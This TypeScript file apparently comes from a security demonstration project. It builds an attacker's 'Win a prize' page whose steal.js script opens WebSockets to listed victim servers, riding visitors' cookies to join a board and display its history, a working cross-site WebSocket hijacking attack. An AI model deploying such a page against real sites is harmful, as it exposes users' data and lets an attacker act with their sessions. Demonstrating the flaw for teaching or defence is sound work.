// The attacker's page, on a port of its own: for each server it opens a socket, and the browser adds the visitor's cookie.
import type { Servable } from "../../shared/serve.ts";
import { asset, escapeHtml, html, page } from "../../shared/web/html.ts";

export interface Victim {
  /** What is shown. */
  readonly name: string;
  /** Host and port. */
  readonly host: string;
}

export function createEvilPage(victims: readonly Victim[]): Servable {
  const boxes = victims.map(
    ({ name, host }) => `<h2>${escapeHtml(name)}</h2><pre data-host="${escapeHtml(host)}">asking…</pre>`,
  );
  const body = `<main><h1>Win a prize</h1>${boxes.join("")}</main><script src="/steal.js"></script>`;
  return {
    async fetch(request) {
      const { pathname } = new URL(request.url);
      if (pathname === "/steal.js") return asset("text/javascript", STEAL);
      if (pathname.endsWith(".css"))
        return asset("text/css", "body { font-family: sans-serif; margin: 2rem }");
      return html(page({ title: "Win a prize", bodyClass: "evil-page", body }), { "connect-src": "ws:" });
    },
  };
}

/** It could also send: whatever a socket of ours lets its user do. */
const STEAL = `for (const box of document.querySelectorAll("[data-host]")) {
  const socket = new WebSocket("ws://" + box.dataset.host + "/ws");
  socket.onopen = () => socket.send(JSON.stringify({ type: "join", boardId: "board-1", history: 2 }));
  socket.onmessage = ({ data }) => { box.textContent = (box.textContent + "\\n" + data).replace("asking…\\n", ""); };
  socket.onerror = () => { box.textContent = "refused"; };
}
`;
